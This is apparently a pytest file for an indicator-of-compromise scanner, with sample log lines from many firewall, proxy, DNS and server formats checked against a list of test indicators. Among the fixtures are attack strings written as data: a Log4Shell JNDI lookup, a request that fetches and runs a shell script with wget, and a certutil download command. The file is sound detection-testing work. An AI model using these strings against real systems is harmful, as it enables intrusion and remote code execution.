"""Lines as devices and programs write them, each with the letters of the indicators that a person would underline."""

from pathlib import Path

import pytest

from khien.lake import face
from khien.lake.lists.read import read_list
from khien.lake.match import oracle
from khien.lake.types import Sighting

LISTED = {
    "A": "203.0.113.7",
    "N": "192.0.2.128/25",
    "S": "2001:db8:bad::7",
    "M": "2001:db8:dead::/48",
    "D": "evil.example",
    "V": "máy-xấu.example",
    "U": "http://gate.example/in/ping.php?id=5",
    "W": "https://drop.example/a/b",
    "X": "http://198.51.100.99/x.sh",
    "m": "0a1b2c3d4e5f60718293a4b5c6d7e8f9",
    "s": "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
    "h": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
}
# A format, its lines; "-" where nothing is met; "⇥" is a tabulator, "␀" a NUL.
WRITTEN = r"""
== iptables, ufw, nftables
A kernel: [1.7] DROP IN=eth0 OUT= MAC=00:16:3e:aa:bb:cc:08:00 SRC=203.0.113.7 DST=10.0.0.5 LEN=60 SPT=443
S kernel: IN=eth0 SRC=2001:0db8:0bad:0000:0000:0000:0000:0007 DST=fe80:0000:0000:0000:0216:3eff:feaa:bbcc LEN=72
- kernel: IN=eth0 SRC=203.0.113.70 DST=10.203.0.113 ID=203 PROTO=UDP SPT=7 DPT=113
N kernel: [UFW BLOCK] IN=ens3 OUT= MAC= SRC=192.0.2.128 DST=192.0.2.127 LEN=40
A elements = { 203.0.113.7 timeout 1h expires 59m2s, 203.0.113.9 }
== pfSense filterlog
A filterlog[1]: 5,,,1000000103,igb0,match,block,in,4,0x0,,51,0,0,DF,6,tcp,60,203.0.113.7,10.0.0.5,443,51000,0,S
M filterlog[1]: 5,,,1000000103,igb0,match,block,in,6,0x00,0,64,TCP,6,40,2001:db8:dead:1::5,2001:db8:beef::1,443
- filterlog[1]: 5,,,1000000103,igb0,match,block,in,4,0x0,,51,0,0,DF,6,tcp,60,203.0.113.77,10.0.0.5,203,0,113,7,S
== FortiGate
A date=2026-11-21 devname="FG" srcip=10.0.0.5 dstip=203.0.113.7 dstport=443 hostname="evil.example.vn"
U type="utm" url="https://gate.example/in/ping.php?id=5" sentbyte=1
- type="utm" url="https://gate.example/in/ping.php?id=55" sentbyte=1
h filename="a.exe" analyticscksum="9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"
== CEF and LEEF
AD CEF:0|Fortinet|Fortigate|v7|13|traffic|3|src=10.0.0.5 spt=51000 dst=203.0.113.7 dpt=443 dhost=evil.example
A CEF:0|Sec|box|1|1|x|3|cs1Label=peer cs1=10.0.0.5\|203.0.113.7 msg=line\n198.51.100.7 a\=b
A LEEF:2.0|Vendor|Prod|1|id|^|src=10.0.0.5^dst=203.0.113.7^proto=6
== Palo Alto
A 1,2026/11/21 10:00:01,0018,TRAFFIC,end,2305,x,10.0.0.5,203.0.113.7,198.51.100.2,203.0.113.70,rule1,,,ssl,vsys1
U 1,2026/11/21,0018,THREAT,url,2305,x,10.0.0.5,198.51.100.5,,"gate.example/in/ping.php?id=5",(9999),malware
W 1,2026/11/21,0018,THREAT,url,1,x,10.0.0.5,198.51.100.5,,"drop.example:443/a/b",(9999)
- 1,2026/11/21,0018,THREAT,url,1,x,10.0.0.5,198.51.100.5,,"drop.example/a/bc",(9999)
D 1,x,0018,THREAT,spyware,1,x,10.0.0.5,10.0.0.53,,Suspicious DNS Query (generic:evil.example)(12000000),any
- 1,x,0018,THREAT,spyware,1,x,10.0.0.5,10.0.0.53,,Suspicious DNS Query (generic:evil.example.com)(12000000),any
== Check Point, Juniper SRX, Huawei, DrayTek, Kerio
A cp CheckPoint 1 - [action:"Accept"; src:"10.0.0.5"; dst:"203.0.113.7"; service:"443"]
A RT_FLOW_SESSION_CREATE: session created 10.0.0.5/51000->203.0.113.7/443 0x0 junos-https 198.51.100.1/5->10.0.0.1/4
A %%01POLICY/6/POLICYPERMIT(l)[5]:vsys=public, source-ip=10.0.0.5, destination-ip=203.0.113.7, destination-port=443
A Local User (MAC=00-16-3E-AA-BB-CC): 10.0.0.5:51000 -> 203.0.113.7:443 (TCP)Web
DA [Rule] NAT [Connection] TCP pc.so.example (10.0.0.5):51000 -> evil.example (203.0.113.7):443
== Cisco
A %ASA-6-302013: Built outbound TCP connection 1 for outside:203.0.113.7/443 (203.0.113.7/443) to inside:10.0.0.5/5
S %ASA-6-302013: Built outbound TCP connection 5 for outside:2001:db8:bad::7/443 (2001:db8:bad::7/443) to inside
N %ASA-6-106100: access-list out denied tcp outside/192.0.2.200(443) -> inside/10.0.0.5(51000) hit-cnt 1 [0x1]
U %ASA-5-304001: 10.0.0.5 Accessed URL 198.51.100.5:http://gate.example/in/ping.php?id=5
- %ASA-6-302014: Teardown TCP connection 2030113 for outside:203.0.113.77/443 to inside:10.0.0.5/7 bytes 203
A %SEC-6-IPACCESSLOGP: list OUT denied tcp 10.0.0.5(51000) -> 203.0.113.7(443), 1 packet
S %IPV6_ACL-6-ACCESSLOGP: list v6 denied tcp 2001:DB8:BAD::7(443) -> 2001:DB8::5(51000), 1 packet
== MikroTik
A firewall,info srcnat: proto UDP, NAT (10.0.0.5:51000->198.51.100.1:51000)->203.0.113.7:53, len 60
S firewall,info forward: proto TCP (SYN), [2001:db8::5]:51000->[2001:db8:bad::7]:443, len 72
- firewall,info input: 203.0.113.78:443->10.203.0.113:7, len 40
== SonicWall
AD id=firewall sn=C0 src=10.0.0.5:51000:X0:pc-01 dst=203.0.113.7:443:X1:evil.example proto=tcp/https op=GET
== pfirewall.log, IIS
A 2026-11-21 10:00:01 ALLOW TCP 10.0.0.5 203.0.113.7 51000 443 0 - 0 0 0 - - - SEND
- 2026-11-21 10:00:01 ALLOW TCP 10.0.0.5 203.0.113.71 203 0 113 7 0 0 0 - - - SEND
D 2026-11-21 03:00:01 10.0.0.80 GET /x - 80 EVIL.EXAMPLE\admin 10.0.0.9 curl 404 0 2 1
== Apache, nginx, HAProxy
A 203.0.113.7 - - [21/Nov/2026:10:00:01 +0700] "GET /index.php HTTP/1.1" 200 512 "-" "Mozilla/5.0 (rv:109.0)"
S [Sat Nov 21 10:00:01.123 2026] [authz_core:error] [pid 1:tid 2] [client 2001:db8:bad::7:51000] AH01630: denied
AD [error] 1#1: *7 connect() failed, client: 203.0.113.7, server: evil.example, request: "GET / HTTP/1.1", host: "x"
A 10.0.0.9 - - [21/Nov/2026] "GET /${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1" 400 5
X 10.0.0.9 - - [21/Nov/2026] "GET /shell?cd+/tmp;wget+http://198.51.100.99/x.sh;sh+/tmp/x.sh HTTP/1.1" 404 5
- 203.0.113.70 - - [21/Nov/2026] "GET /203/0/113/7 HTTP/1.1" 200 203 "-" "x/203.0.113.7.1.2"
S haproxy[1]: 2001:db8:bad::7:51000 [21/Nov/2026:10:00:01.123] fe~ be/srv1 0/0/1/2/3 200 "GET / HTTP/1.1"
== Squid, Zscaler
D 1700560801.1    200 10.0.0.5 TCP_TUNNEL/200 5120 CONNECT evil.example:443 - HIER_DIRECT/203.0.113.70 -
A 1700560801.1    200 10.0.0.5 TCP_MISS/200 5120 GET http://a.example/ - HIER_DIRECT/203.0.113.7 text/html
- 1700560801.1    200 10.0.0.5 TCP_TUNNEL/200 5120 CONNECT evil.example.net:443 - HIER_DIRECT/203.0.113.71 -
W "Sat Nov 21 10:00:01 2026","user@x.example","HTTPS","drop.example/a/b","Allowed","10.0.0.5","198.51.100.5"
== BIND, dnsmasq, unbound, PowerDNS, Infoblox
D queries: info: client @0x7f1234567890 10.0.0.5#53211 (evil.example): query: evil.example IN A +E(0)K (10.0.0.53)
D client @0x1 10.0.0.5#5 (a.b.evil.example): rpz QNAME NXDOMAIN rewrite a.b.evil.example/A/IN via x.rpz.local
V client @0x1 10.0.0.5#5: query: www.xn--my-xu-xqa7544c.example IN A + (10.0.0.53)
- client @0x1 10.0.0.5#5 (evil.example.com): query: evil.example.com IN A + (10.0.0.53)
DA dnsmasq[1]: reply evil.example is 203.0.113.7
- dnsmasq[1]: query[PTR] 7.113.0.203.in-addr.arpa from 10.0.0.5
D unbound[1:0] info: 10.0.0.5 evil.example. A IN
D pdns[1]: Remote 10.0.0.5 wants 'evil.example|A', do = 0, bufsize = 512: packetcache MISS
== sshd, sudo, auditd
A sshd[1]: Failed password for invalid user admin from 203.0.113.7 port 51000 ssh2
A sshd[1]: Received disconnect from 203.0.113.7: 11: Bye Bye [preauth]
- sshd[1]: Connection from 203-0-113-7.static.isp.example port 7
A type=USER_LOGIN msg=audit(1.1:45): pid=1 msg='op=login acct="root" hostname=? addr=203.0.113.7 res=failed'
== Postfix, Dovecot, Exim, Exchange
AD smtpd[1]: reject: RCPT from mail.evil.example[203.0.113.7]: 554; from=<x@evil.example> helo=<evil.example>
S smtpd[1]: connect from unknown[IPv6:2001:db8:bad::7]
A 1rABCd-0000Xy-2B H=mail.a.example [203.0.113.7]:51000 I=[10.0.0.25]:25 rejected
A 2026-11-21T03:00:01.123Z,,,,,SMTP,RECEIVE,1,,,203.0.113.7,10.0.0.26,S:ProxiedClientIPAddress=203.0.113.7;S:x=y
== Suricata, Snort
A {"event_type":"alert","src_ip":"10.0.0.5","dest_ip":"203.0.113.7","alert":{"signature_id":2030113,"rev":7}}
U {"event_type":"http","http":{"url":"http:\/\/gate.example\/in\/ping.php?id=5","http_method":"GET"}}
D {"event_type":"tls","tls":{"subject":"CN=evil.example","sni":"x.evil.example","fingerprint":"aa:bb:cc:dd:ee:ff"}}
D {"payload_printable":"GET / HTTP/1.1\r\nHost:evil.example\r\n\r\n"}
- {"src_ip":"203.0.113.79","flow_id":2030113000007,"dest_ip":"10.203.0.113"}
A 11/21/2026-10:00:01.123456  [**] [1:2030113:7] ET MALWARE [**] {TCP} 10.0.0.5:51000 -> 203.0.113.7:443
== Zeek
DA 1.1⇥Cabc⇥10.0.0.5⇥5⇥10.0.0.53⇥53⇥udp⇥evil.example⇥1⇥C_INTERNET⇥cdn.a.example,203.0.113.7⇥60.0,60.0⇥F
ms 1.1⇥Fabc⇥HTTP⇥MD5,SHA1⇥F⇥0a1b2c3d4e5f60718293a4b5c6d7e8f9⇥a94a8fe5ccb19ba61c4c0873d391e987982fbbd3⇥-
- 1.1⇥C203.0.113.7x⇥10.0.0.5⇥203⇥0.113.7.0⇥443
A {"ts":1.1,"uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"203.0.113.7","id.resp_p":443,"proto":"tcp"}
== Wazuh, Windows
A {"full_log":"{\"win\":{\"eventdata\":{\"ipAddress\":\"203.0.113.7\"}}}"}
A {"message":"An account failed.\r\n\r\nNetwork Information:\r\n\tSource Network Address:\t203.0.113.7\r\n\t"}
S {"message":"Source Address:\r\n2001:db8:bad::7\r\n"}
A ⇥Client Address:⇥⇥::ffff:203.0.113.7
DA <Data Name='QueryName'>evil.example</Data><Data Name='QueryResults'>type:  5 cdn.a.example;::ffff:203.0.113.7;
m <Data Name='Hashes'>MD5=0A1B2C3D4E5F60718293A4B5C6D7E8F9,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744</Data>
U <Data Name='CommandLine'>certutil -f http://gate.example/in/ping.php?id=5&amp;x=1 a.exe</Data>
D 10,11/21/26,10:00:01,Assign,10.0.0.5,pc1.evil.example,AABBCCDDEEFF,,123,0,,,,0x4D,MSFT 5.0
== nfdump, tcpdump, netstat, ss, lsof, ipconfig
A 2026-11-21 10:00:01.1     0.1 TCP          10.0.0.5:51000 ->      203.0.113.7:443          5      300     1
A IP 203.0.113.7 > 10.0.0.5: ICMP echo request, id 1, seq 1, length 64
D IP 10.0.0.5.5 > 10.0.0.53.53: 1+ A? evil.example. (30)
S   TCP    [fe80::1%12]:51000     [2001:db8:bad::7%3]:443  ESTABLISHED     1234
A tcp6       0      0 ::ffff:10.0.0.5:51000   ::ffff:203.0.113.7:443 ESTABLISHED 1/x
A x 1234 root 3u IPv4 123 0t0 TCP 10.0.0.5:51000->203.0.113.7:https (ESTABLISHED)
-   TCP    10.0.0.5:203    203.0.113.79:7    TIME_WAIT  113
S    IPv6 Address. . . . . . . . . . . : 2001:db8:bad::7(Ưu tiên)
== browsers, antivirus, sums
W "21/11/2026 10:00:01";"https://drop.example/a/b#top";"Tiêu đề"
V http://MÁY-XẤU.example/x
- https://www.drop.example/a/b https://drop.example/A/b
h 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 *tệp tin.exe
h \9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  a\nb
- 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a080 0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9
== containers, clouds
A {"log":"{\"level\":\"warn\",\"remote\":\"203.0.113.7:51000\"}\n","stream":"stdout"}
W {"log":"<a href=\u003chttps://drop.example/a/b\u003e"}
A 2026-11-21T03:00:01.123456789Z stdout F 203.0.113.7 - - [21/Nov/2026:10:00:01 +0000] "GET / HTTP/1.1"
A 2026-11-21T03:00:01Z,a@b.example,UserLoginFailed,"{""ClientIP"":""203.0.113.7:51000"",""x"":""::1""}"
W "{""ObjectId"":""https://drop.example/a/b"",""x"":1}"
A 2 123456789010 eni-1235b8ca 10.0.0.5 203.0.113.7 51000 443 6 20 4249 1418530010 1418530070 REJECT OK
== rsyslog
AD MSWinEventLog#0111#011Security#0114625#011203.0.113.7#011evil.example#015#012
S Source Address:#0112001:db8:bad::7#015#012
- 10.0.0.5#53211 #0110203.0.113.7 #123203.0.113.7 #012notevil.example
== escaped by percent, by nginx, by a terminal's colours
A 10.0.0.9 - - [21/Nov/2026] "GET /r?u=http%3A%2F%2F203.0.113.7%2Fx HTTP/1.1" 200 5
D 10.0.0.9 - - [21/Nov/2026] "GET /tim?q=%22evil.example%22 HTTP/1.1" 200 5
- 10.0.0.9 - - [21/Nov/2026] "GET /tim?q=%22notevil.example%22&p=%2D203.0.113.7&o=50%203.0.113.70 HTTP/1.1" 200 5
AD 10.0.0.9 - - [21/Nov/2026] "GET /?q=\x22evil.example\x22&ip=\x0A203.0.113.7 HTTP/1.1" 200 5
A {"log":"\u001b[31m203.0.113.7\u001b[0m refused\n","stream":"stdout"}
== JSON in JSON
A {"log":"{\"message\":\"An account failed\\r\\n\\tSource Network Address:\\t203.0.113.7\\r\\n\"}\n"}
D {"log":"{\"m\":\"one\\nevil.example\\ttwo\"}\n"}
- {"cmd":"net use \\\\nevil.example.vn\\x","path":"C:\\temp\\203.0.113.70"}
== ports that follow a dot or eight groups
S {TCP} 2001:0db8:0bad:0000:0000:0000:0000:0007:443 -> fe80:0000:0000:0000:0000:0000:0000:0001:51000
S 10:00:01.1 IP6 2001:db8::5.51000 > 2001:db8:bad::7.443: Flags [S], seq 1
A 10:00:01.1 IP 10.0.0.5.51000 > 203.0.113.7.443: Flags [S], seq 1, win 65535, length 0
- 10:00:01.1 IP 10.0.0.5.51000 > 203.0.113.70.443: Flags [S] oid 203.0.113.7.443 = 5 2001:db8:bad::77.443
S access.log:12345:2001:db8:bad::7 - - [21/Nov/2026:10:00:01 +0700] "GET / HTTP/1.1" 200 5
== Windows' DNS server
D 0E10 PACKET  000001D5 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (3)www(4)evil(7)example(0)
- 0E10 PACKET  000001D5 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (7)notevil(7)example(0)
- 0E10 PACKET  000001D5 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (4)evil(7)example(3)com(0)
== host and path in two fields
U {"http":{"hostname":"gate.example","http_port":80,"url":"\/in\/ping.php?id=5","http_method":"GET"}}
W 1.1⇥Cabc⇥10.0.0.5⇥5⇥198.51.100.5⇥80⇥1⇥GET⇥drop.example⇥/a/b/c⇥-⇥1.1
- 198.51.100.99 - - [21/Nov/2026:10:00:01 +0700] "GET /x.sh HTTP/1.1" 404 5 "-" "-"
- {"src_ip":"198.51.100.99","http":{"hostname":"www.so.example","url":"/x.sh"},"refer":"http://drop.example/x"}
- 10.0.0.9 - - [21/Nov/2026] "GET /a/b HTTP/1.1" 200 5 "http://drop.example/other" "-"
U type="utm" hostname="gate.example" profile="so" action="blocked" reqtype="direct" url="/in/ping.php?id=5" cat=26
U {"host":"gate.example","remote_addr":"10.0.0.5","method":"GET","status":200,"bytes":51,"uri":"/in/ping.php?id=5"}
W {":method":"GET",":authority":"drop.example",":path":"/a/b",":scheme":"https"}
W "headers":[{"name":"Host","value":"drop.example"},{"name":"User-Agent","value":"curl/8"}],"uri":"/a/b","args":""
X hostname="198.51.100.99" profile="so" action="blocked" reqtype="direct" url="/x.sh" cat=26
- {"host":"drop.example","remote_addr":"10.0.0.5","hostname":"so.example","uri":"/a/b"}
- {"client_host":"drop.example","remote_addr":"10.0.0.5","status":200,"uri":"/a/b"} {"host":"drop.example","x":1}
- hostname="drop.example" profile="so" action="blocked" reqtype="direct" url="/a/bc" cat=26 url="/a/b"
== a URL in another's query
U GET https://links.so.example/?url=http%3A%2F%2Fgate.example%2Fin%2Fping.php%3Fid%3D5&data=05%7C01
W 10.0.0.9 - - [21/Nov/2026] "GET /r?u=https%253A%252F%252Fdrop.example%253A8443%252Fa%252Fb HTTP/1.1" 302 5
X 10.0.0.9 - - [21/Nov/2026] "GET /r?u=http%3a%2f%2f198.51.100.99%2fx.sh&n=1 HTTP/1.1" 302 5
- 10.0.0.9 - - [21/Nov/2026] "GET /r?u=http%3A%2F%2Fdrop.example%2Fa&v=%2Fb HTTP/1.1" 302 5 "http://drop.example%2Fa%2Fbc"
== host and path in one
U CEF:0|Sec|box|1|100|web|3|request=http://gate.example/in/ping.php?id\=5 requestMethod=GET
== other programs
A ovpn[1]: user/203.0.113.7:51000 MULTI: Learn: 10.8.0.6 -> user/203.0.113.7:51000
S ovpn[1]: [AF_INET6]2001:db8:bad::7:51000 TLS error
A charon: 05[NET] received packet: from 203.0.113.7[500] to 10.0.0.1[500] (240 bytes)
A mysqld: Access denied for user 'root'@'203.0.113.7' (using password: YES)
AD java.net.ConnectException: Connection refused: evil.example/203.0.113.7:443
S dial tcp [2001:db8:bad::7]:443: connect: refused
A snmptrapd: UDP: [203.0.113.7]:161->[10.0.0.5]:162 .1.3.6.1.2.1.1.3.0 = 5
A 52 <13>1 2026-11-21T10:00:01Z h a - - - src:203.0.113.7␀
A địa chỉ：203.0.113.7，cổng 443
D Tên miền “evil.example”… bị chặn
"""


def lines() -> list[tuple[str, str, str]]:
    """The format, the letters and the line."""
    made, name = [], ""
    for line in WRITTEN.strip().split("\n"):
        first, _, rest = line.partition(" ")
        if first == "==":
            name = rest
        else:
            made.append((name, first.strip("-"), rest.replace("⇥", "\t").replace("␀", "\0")))
    return made


LINES = lines()
LISTS = read_list("\n".join(LISTED.values()).encode(), "l")
LETTERS = list(LISTED)


@pytest.mark.parametrize("name", dict.fromkeys(name for name, _, _ in LINES))
def test_what_a_person_would_underline_is_met_and_nothing_else(name: str) -> None:
    for letters, line in ((letters, line) for of, letters, line in LINES if of == name):
        met = {LETTERS[number] for _, _, number, _ in oracle.sightings(line.encode(), LISTS[0].indicators)}
        assert met == set(letters), line


@pytest.mark.parametrize("fast", [True, False], ids=["compiled", "plain"])
def test_every_scanner_meets_the_same_on_every_line(tmp_path: Path, fast: bool) -> None:
    if fast:
        pytest.importorskip("numba", reason="the extra `fast` is not installed")
    (tmp_path / "log").write_bytes("\r\n".join(line for _, _, line in LINES).encode())
    met: list[set[str]] = [set() for _ in LINES]
    for one in face.sightings(LISTS, [tmp_path / "log"], fast=fast):
        assert isinstance(one, Sighting)
        met[one.line - 1].add(LETTERS[one.indicator.line - 1])
    assert [(line, found) for (_, _, line), found in zip(LINES, met, strict=True)] == [
        (line, set(letters)) for _, letters, line in LINES
    ]
